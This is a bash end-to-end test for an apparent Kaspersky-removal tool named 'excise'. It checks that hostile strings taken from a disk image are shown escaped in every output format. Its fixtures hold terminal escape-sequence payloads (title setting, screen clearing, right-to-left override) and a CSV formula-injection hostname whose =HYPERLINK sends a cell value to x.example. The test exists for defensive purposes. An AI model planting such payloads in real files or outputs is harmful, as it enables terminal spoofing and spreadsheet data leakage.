#!/bin/bash
# End-to-end (issue 14, item 5): strings from an image never reach the terminal raw.
# A root where dpkg installed a package whose description carries escape sequences
# (OSC title, clear screen, a C1 CSI, a right-to-left override), whose hostname is
# ANSI-laden, and whose vendor folder holds names with ESC ] 0 ;, U+202E and a raw
# 0x9B byte, is scanned as text, CSV and JSON, planned as text, dry-run removed, and
# made to fail; no output or error may carry a raw C0 control (but the format's
# newlines), DEL, C1 control (U+0080-U+009F, raw 0x80-0x9F) or bidirectional control,
# and each is shown as an escape. Then CSV cells: neutralised against formulas in every
# column (the hostname starts every row), quotes and newlines RFC 4180 quoted.
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"

for t in dpkg dpkg-deb openssl python3; do
	command -v $t >/dev/null || skip_all "$t not installed"
done

ESC=$'\033'
RLO=$'\u202e'
C1CSI=$'\u009b'

# mkroot DIR HOSTNAME: a Debian-like root with kesl installed by dpkg, its description hostile
mkroot() {
	local R=$1 d=$T/deb
	rm -rf "$d"
	mkdir -p "$d/DEBIAN" "$d/opt/kaspersky/kesl/bin" "$R/var/lib/dpkg/info" "$R/var/lib/dpkg/updates" "$R/etc"
	printf '#!/bin/sh\n' >"$d/opt/kaspersky/kesl/bin/kesl-control"
	chmod 755 "$d/opt/kaspersky/kesl/bin/kesl-control"
	{
		echo "Package: kesl"
		echo "Version: 12.1.0-1191"
		echo "Architecture: amd64"
		echo "Maintainer: AO Kaspersky Lab <support@kaspersky.com>"
		printf 'Description: Kaspersky Endpoint Security%s]0;pwned\a%s[2J for Linux %s31m %s\n' \
			"$ESC" "$ESC" "$C1CSI" "$RLO"
		printf ' more %s[31m text\n' "$ESC"
	} >"$d/DEBIAN/control"
	dpkg-deb --root-owner-group --build "$d" "$T/kesl.deb" >/dev/null || return 1
	: >"$R/var/lib/dpkg/status"
	: >"$R/var/lib/dpkg/available"
	dpkg --root="$R" --admindir="$R/var/lib/dpkg" --force-script-chrootless --no-triggers -i "$T/kesl.deb" \
		>"$T/dpkg.log" 2>&1 || { sed 's/^/# /' "$T/dpkg.log"; return 1; }
	printf 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n' >"$R/etc/os-release"
	printf '%s\n' "$2" >"$R/etc/hostname"
}

# no_raw NAME FILE [crlf]: FILE is UTF-8 with no C0 control but newline and tab (and CR in
# CSV line ends), no DEL, no C1 control, no bidirectional control
no_raw() {
	check "$1" py - "$2" "${3:-}" <<'PY'
import sys
data = open(sys.argv[1], "rb").read()
try:
    s = data.decode("utf-8")
except UnicodeDecodeError as e:
    sys.exit("not UTF-8: %s" % e)
ok = {9, 10} | ({13} if sys.argv[2] == "crlf" else set())
bad = (set(range(32)) - ok) | {0x7f} | set(range(0x80, 0xa0)) | {0x61c, 0x200e, 0x200f} | \
    set(range(0x202a, 0x202f)) | set(range(0x2066, 0x206a))
for i, ch in enumerate(s):
    if ord(ch) in bad:
        sys.exit("raw U+%04X at %d: %r" % (ord(ch), i, s[max(0, i - 30):i + 30]))
if sys.argv[2] == "crlf" and "\r" in s.replace("\r\n", ""):
    sys.exit("a CR outside a line end")
PY
}

R=$T/root
mkroot "$R" "${ESC}[31mevil${RLO}-host${ESC}]0;owned${ESC}\\" || { echo "Bail out! fixture root"; exit 1; }
mkdir -p "$R/opt/kaspersky/${ESC}]0;title"$'\a'"${RLO}txt.exe" "$R/opt/kaspersky/raw"$'\x9b'"2J"
# a certificate file the truststore source cannot read, its name hostile: an item error quoting it
mkdir -p "$R/usr/local/share/ca-certificates"
printf -- '-----BEGIN CERTIFICATE-----\nnot base64 at all\n-----END CERTIFICATE-----\n' \
	>"$R/usr/local/share/ca-certificates/bad${ESC}[2J${RLO}.crt"

# ---- the scan, in each format
"$EXCISE" scan --root "$R" >"$T/scan.txt" 2>"$T/scan.txt.err"
check_eq "text: exit 1 (found)" "$?" 1
"$EXCISE" scan --root "$R" -v >"$T/scan-v.txt" 2>"$T/scan-v.txt.err"
"$EXCISE" scan --root "$R" --format csv >"$T/scan.csv" 2>"$T/scan.csv.err"
"$EXCISE" scan --root "$R" --format json >"$T/scan.json" 2>"$T/scan.json.err"
for f in scan.txt scan-v.txt scan.txt.err scan-v.txt.err scan.csv.err scan.json scan.json.err; do
	no_raw "$f: no raw control, C1 or bidirectional character" "$T/$f"
done
no_raw "scan.csv: no raw control, C1 or bidirectional character" "$T/scan.csv" crlf
check "text: the hostname shown escaped" grep -qF 'excise scan of \x1b[31mevil\u202e-host\x1b]0;owned\x1b\\' "$T/scan.txt"
check "text -v: the description shown escaped" \
	grep -qF 'Kaspersky Endpoint Security\x1b]0;pwned\x07\x1b[2J for Linux \u009b31m \u202e' "$T/scan-v.txt"
check "text: the folder name shown escaped" grep -qF '/opt/kaspersky/\x1b]0;title\x07\u202etxt.exe' "$T/scan-v.txt"
check "text: a raw 0x9B byte (not UTF-8) shown as \\x9b" grep -qF '/opt/kaspersky/raw\x9b2J' "$T/scan-v.txt"
check "text: the item error quoting the file name shown escaped" grep -qF 'bad\x1b[2J\u202e.crt' "$T/scan-v.txt"
check "json: the report is valid and keeps every string exactly" py - "$T/scan.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
assert r["host"]["hostname"] == "\x1b[31mevil\u202e-host\x1b]0;owned\x1b\\", r["host"]["hostname"]
paths = [e["path"] for f in r["findings"] for e in f["evidence"]]
assert "/opt/kaspersky/\x1b]0;title\x07\u202etxt.exe" in paths, paths
descs = [m["value"] for f in r["findings"] for e in f["evidence"] for m in e["matches"] if m["field"] == "description"]
assert any("\x1b]0;pwned\x07\x1b[2J for Linux \x9b31m \u202e" in d for d in descs), descs
PY
check "json: the C1 and bidirectional controls written as \\u escapes" grep -qF '\u009b31m \u202e' "$T/scan.json"
check "csv: every string kept, escaped, in its cell" py - "$T/scan.csv" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
assert rows and all(r["hostname"] == "\\x1b[31mevil\\u202e-host\\x1b]0;owned\\x1b\\" for r in rows), rows[0]["hostname"]
assert any(r["path"] == "/opt/kaspersky/\\x1b]0;title\\x07\\u202etxt.exe" for r in rows)
PY

# ---- the plan, as text, from the report (a name that is not UTF-8 is issue 14 item 4's: left out here)
rmdir "$R/opt/kaspersky/raw"$'\x9b'"2J"
"$EXCISE" scan --root "$R" --format json -o "$T/scan.json" 2>/dev/null
"$EXCISE" plan "$T/scan.json" >"$T/plan.txt" 2>"$T/plan.txt.err"
check_eq "plan: exit 0" "$?" 0
no_raw "plan text: no raw control, C1 or bidirectional character" "$T/plan.txt"
no_raw "plan text: none on standard error" "$T/plan.txt.err"
check "plan text: the hostname shown escaped" grep -qF 'Removal plan for \x1b[31mevil\u202e-host' "$T/plan.txt"
check "plan text: the description quoted as evidence, escaped" grep -qF '\x1b]0;pwned\x07' "$T/plan.txt"
check "plan text: the failed item, escaped" grep -qF 'bad\x1b[2J\u202e.crt' "$T/plan.txt"
"$EXCISE" plan "$T/scan.json" --format json -o "$T/plan.json"
"$EXCISE" plan --plan "$T/plan.json" >"$T/plan2.txt" 2>&1
no_raw "plan text of a plan file: no raw character" "$T/plan2.txt"
# the report without /opt/kaspersky's own entry: the entries in it are removed one by one
py - "$T/scan.json" "$T/entries.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
for f in r["findings"]:
    f["evidence"] = [e for e in f["evidence"] if e["path"] != "/opt/kaspersky"]
json.dump(r, open(sys.argv[2], "w"))
PY
"$EXCISE" plan "$T/entries.json" --format json -o "$T/plan.json"

# ---- the dry run of that plan
"$EXCISE" remove --root "$R" --plan "$T/plan.json" >"$T/dry.txt" 2>"$T/dry.err"
check_eq "dry run: exit 0" "$?" 0
no_raw "dry run: no raw control, C1 or bidirectional character" "$T/dry.txt"
no_raw "dry run: none on standard error" "$T/dry.err"
check "dry run: the folder it would move, escaped" grep -qF 'move: /opt/kaspersky/\x1b]0;title\x07\u202etxt.exe' "$T/dry.txt"
check "dry run: the step that moves it, escaped" \
	grep -qE '^\[[0-9]+/[0-9]+\] remove-path /opt/kaspersky/\\x1b\]0;title\\x07\\u202etxt\.exe$' "$T/dry.txt"
check "dry run: nothing was changed" test -d "$R/opt/kaspersky/${ESC}]0;title"$'\a'"${RLO}txt.exe"

# ---- the scripts: a name's characters made by printf (sh) or [char] (ps1), never raw
"$EXCISE" plan --plan "$T/plan.json" --emit sh -o "$T/plan.sh"
"$EXCISE" plan --plan "$T/plan.json" --emit ps1 -o "$T/plan.ps1"
no_raw "sh script: no raw control, C1 or bidirectional character" "$T/plan.sh"
no_raw "ps1 script: no raw control, C1 or bidirectional character" "$T/plan.ps1"
check "sh script: parses with dash" dash -n "$T/plan.sh"
if command -v shellcheck >/dev/null; then
	check "sh script: passes shellcheck" shellcheck -s sh "$T/plan.sh"
fi
grep '^log "step [0-9]*/[0-9]*: remove-path "' "$T/plan.sh" | grep -F 'printf' | head -1 >"$T/log-line.sh"
dash -c 'log() { printf "%s" "$*"; }; . "$1"' sh "$T/log-line.sh" >"$T/log-line.out"
check "sh script: the quoted name is the name's exact bytes" py - "$T/log-line.out" <<'PY'
import re, sys
got = open(sys.argv[1], "rb").read().decode("utf-8")
assert re.fullmatch(r"step \d+/\d+: remove-path /opt/kaspersky/\x1b\]0;title\x07\u202etxt\.exe", got), repr(got)
PY
check "ps1 script: the name by [char], in parentheses" \
	grep -qF "('\\opt\\kaspersky\\' + [char]27 + ']0;title' + [char]7 + '' + [char]0x202E + 'txt.exe')" "$T/plan.ps1"

# ---- errors that quote the image's strings
py - "$T/scan.json" "$T/bad-root.json" "$T/nope${ESC}]0;x"$'\a'"${RLO}" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
r["host"]["root"] = sys.argv[3]
json.dump(r, open(sys.argv[2], "w"))
PY
"$EXCISE" plan "$T/bad-root.json" >"$T/err1.out" 2>"$T/err1.err"
check_eq "error: a report whose root is gone: exit 2" "$?" 2
no_raw "error: the message has no raw character" "$T/err1.err"
check "error: the root named, escaped" grep -qF 'nope\x1b]0;x\x07\u202e' "$T/err1.err"
py - "$T/plan.json" "$T/bad-plan.json" <<'PY'
import json, sys
p = json.load(open(sys.argv[1]))
s = next(s for s in p["steps"] if s["action"] == "remove-path")
s["target"] = "/opt/kaspersky/\x1b[2J\u202e-not-in-evidence"
json.dump(p, open(sys.argv[2], "w"))
PY
"$EXCISE" remove --root "$R" --plan "$T/bad-plan.json" >"$T/err2.out" 2>"$T/err2.err"
check_eq "error: a plan step aimed elsewhere: exit 2" "$?" 2
no_raw "error: the refusal has no raw character (stdout)" "$T/err2.out"
no_raw "error: the refusal has no raw character (stderr)" "$T/err2.err"
check "error: the target named, escaped" grep -qF '\x1b[2J\u202e-not-in-evidence' "$T/err2.err"
"$EXCISE" scan --root "$T/no-such${ESC}[2J" >"$T/err3.out" 2>"$T/err3.err"
check_eq "error: a root that is not there: exit 2" "$?" 2
no_raw "error: the operator's path, escaped too" "$T/err3.err"

# ---- CSV cells a spreadsheet would take for formulas
C=$T/csvroot
mkroot "$C" '=HYPERLINK("http://x.example/?"&A1,"click")' || { echo "Bail out! csv root"; exit 1; }
# names the files source tests in /opt: each a weak trace whose value is the name
for n in '=kaspersky' '+kaspersky' '-kaspersky' '@kaspersky' $'\tkaspersky' 'kaspersky "q", and'$'\n''a line'; do
	mkdir -p "$C/opt/$n"
done
"$EXCISE" scan --root "$C" --format csv >"$T/f.csv" 2>/dev/null
no_raw "csv: no raw character" "$T/f.csv" crlf
check "csv: every cell that starts with = + - @ tab or CR is prefixed with '; quoting kept" py - "$T/f.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
head, body = rows[0], rows[1:]
assert body, "no rows"
for r in body:
    assert len(r) == len(head), r
    for cell in r:
        assert not cell or cell[0] not in "=+-@\t\r", ("formula", cell)
h = head.index("hostname")
assert all(r[h] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" for r in body), body[0][h]
names = {r[head.index("value")] for r in body if r[head.index("field")] == "name"}
for want in ("'=kaspersky", "'+kaspersky", "'-kaspersky", "'@kaspersky", "'\tkaspersky", "kaspersky \"q\", and\na line"):
    assert want in names, (want, names)
PY
check "csv: the quoted cell is RFC 4180 (quotes doubled, newline inside quotes)" \
	grep -qF '"kaspersky ""q"", and' "$T/f.csv"

echo "1..$_n"
[ "$_bad" -eq 0 ]
